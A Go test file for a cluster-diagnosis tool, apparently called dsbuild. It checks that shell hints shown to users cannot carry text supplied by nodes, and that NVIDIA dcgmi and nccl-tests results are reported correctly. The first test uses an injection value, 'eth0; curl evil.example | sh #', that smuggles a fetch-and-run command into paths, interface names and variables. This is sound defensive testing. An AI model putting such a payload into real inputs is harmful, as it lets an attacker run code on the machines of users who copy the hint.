package check

import (
	"strings"
	"testing"
)

// A hint is dsbuild's own advice, which a user may copy into a shell: no node can put a command there.
func TestHintsHoldNoWordsOfNodes(t *testing.T) {
	const evil = "eth0; curl evil.example | sh #"
	for name, c := range map[string]struct {
		change func(r *run)
		judge  func(r *run)
	}{
		"a folder without room": {func(r *run) {
			r.opt.MinFree = 1 << 30
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1, Inodes: -1})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"a folder without inodes": {func(r *run) {
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1 << 40, Inodes: 3})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"a folder that it cannot write": {func(r *run) {
			r.members[1].survey.Disks = map[string]part[room]{"TMPDIR": known(room{Path: evil, Free: 1 << 40, Inodes: -1, Unwritable: evil})}
		}, func(r *run) { r.checkDisks(t.Context()) }},
		"an interface": {func(r *run) { r.members[1].route.Interface = evil }, func(r *run) { r.judgeInterfaces() }},
		"an interface beside a variable": {func(r *run) {
			r.members[1].route.Interface = evil
			(*r.members[1].survey.Variables.OK)["NCCL_SOCKET_IFNAME"] = "ib"
		}, func(r *run) { r.judgeInterfaces() }},
		"an interface that most have": {func(r *run) {
			for _, m := range r.members[1:] {
				m.route.Interface = evil
			}
		}, func(r *run) { r.judgeInterfaces() }},
		"another address": {func(r *run) {
			r.members[1].survey.Master = known(resolved{evil, []string{evil}, evil})
			r.members[1].survey.Host = known(resolved{evil, nil, evil})
		}, func(r *run) { r.checkNames(t.Context()) }},
		"a variable": {func(r *run) {
			(*r.members[1].survey.Variables.OK)["MASTER_ADDR"] = evil
			(*r.members[1].survey.Variables.OK)["NCCL_ALGO"] = evil
		}, func(r *run) { r.checkVariables(t.Context()) }},
		"a tool": {func(r *run) {
			r.members[1].judgeTools(map[string]part[programOutput]{"dcgmi": known(programOutput{1, []string{evil}}), "nccl-tests": known(programOutput{0, []string{"| Fail " + evil}})})
		}, func(*run) {}},
	} {
		r := ready(4)
		c.change(r)
		c.judge(r)
		found := 0
		for _, m := range r.members {
			for _, f := range m.findings {
				found++
				if strings.Contains(f.Hint, "curl") {
					t.Errorf("%s: the hint is %s", name, f.Hint)
				}
				if strings.ContainsAny(f.Text, "\n\x1b") {
					t.Errorf("%s: the text is %q", name, f.Text)
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: nothing was found", name)
		}
	}
}

// The results of NVIDIA's own tests are told: a failure as an error, a tool that did not run as a warning.
func TestToolsOfNVIDIA(t *testing.T) {
	for name, c := range map[string]struct {
		got  map[string]part[programOutput]
		want string
	}{
		"none":         {nil, ""},
		"well":         {map[string]part[programOutput]{"dcgmi": known(programOutput{0, []string{"| PCIe | Pass |"}}), "nccl-tests": known(programOutput{})}, ""},
		"dcgmi fails":  {map[string]part[programOutput]{"dcgmi": known(programOutput{0, []string{"| PCIe | Pass |", "| Memory | Fail - GPU: 1 |"}})}, "n1 error: dcgmi: Memory | Fail - GPU: 1"},
		"NCCL fails":   {map[string]part[programOutput]{"nccl-tests": known(programOutput{1, []string{"x: Test NCCL failure common.cu:1", "last"}})}, "n1 error: nccl-tests: x: Test NCCL failure common.cu:1"},
		"did not run":  {map[string]part[programOutput]{"dcgmi": known(programOutput{226, []string{"first", "no permission"}})}, "n1 warning: dsbuild could not run dcgmi: no permission"},
		"no words":     {map[string]part[programOutput]{"nccl-tests": known(programOutput{2, nil})}, "n1 warning: dsbuild could not run nccl-tests: exit status 2"},
		"hangs":        {map[string]part[programOutput]{"dcgmi": {Hung: true}}, "n1 warning: dcgmi: no answer within 20s"},
		"another tool": {map[string]part[programOutput]{"x": known(programOutput{1, nil})}, ""},
	} {
		r := ready(1)
		r.members[0].judgeTools(c.got)
		if got := r.said(); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
